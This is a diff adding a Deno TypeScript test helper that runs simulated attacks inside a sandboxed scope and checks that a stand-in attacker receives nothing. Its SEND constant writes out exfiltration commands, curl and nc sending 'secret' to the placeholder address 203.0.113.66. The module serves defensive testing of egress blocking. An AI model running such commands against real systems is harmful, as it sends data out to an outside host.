@@ -1,0 +1,62 @@
+/**
+ * Attacks: commands that try to reach the attacker from inside a scope.
+ *
+ * @module
+ */
+
+import assert from "node:assert/strict";
+import type { Finished } from "./run.ts";
+import type { Scene } from "./suite.ts";
+
+/** What the attacks are run under; nothing of the attacker is in it. */
+export const POLICY = "site.test\nhttp://site.test/*\nregistry.test";
+
+/** How an attack is run. */
+export interface AttackOptions {
+  /**
+   * A command that, without egress, reaches the attacker; it is run first, to show that the attack is one.
+   * Absent: the attack itself. `null`: none, where the attack is on egress itself and there is nothing to
+   * attack without it.
+   */
+  control?: string[] | null;
+  policy?: string;
+}
+
+/** Runs an attack as root in a scope, and shows that it reached nobody. */
+export async function attack(
+  scene: Scene,
+  command: string[],
+  options: AttackOptions = {},
+): Promise<Finished> {
+  const { control = command, policy = POLICY } = options;
+  if (control !== null) {
+    const [file = "", ...args] = scene.internet.command(control);
+    await new Deno.Command(file, { args, stdout: "null", stderr: "null" }).output();
+    await assert.rejects(scene.attackerGotNothing(), /attacker/, "the attack is none");
+    await scene.begin();
+  }
+  const run = await scene.run({ policy, command });
+  await scene.attackerGotNothing();
+  return run;
+}
+
+/** An attack in shell. */
+export function inShell(scene: Scene, script: string, options?: AttackOptions): Promise<Finished> {
+  return attack(scene, ["bash", "-c", script], options);
+}
+
+/** An attack in Python. */
+export function inPython(
+  scene: Scene,
+  program: string,
+  options?: AttackOptions,
+): Promise<Finished> {
+  return attack(scene, ["/usr/bin/python3", "-c", program], options);
+}
+
+/** Shell: sends to the attacker by TCP and UDP, whatever the one before said. */
+export const SEND = "curl -sS -m 3 -d secret http://203.0.113.66/; " +
+  "echo secret | nc -u -w 1 203.0.113.66 9000; echo secret | nc -N -w 2 203.0.113.66 9000";
+
+/** {@link SEND} as a control. */
+export const SENDING = ["bash", "-c", SEND];
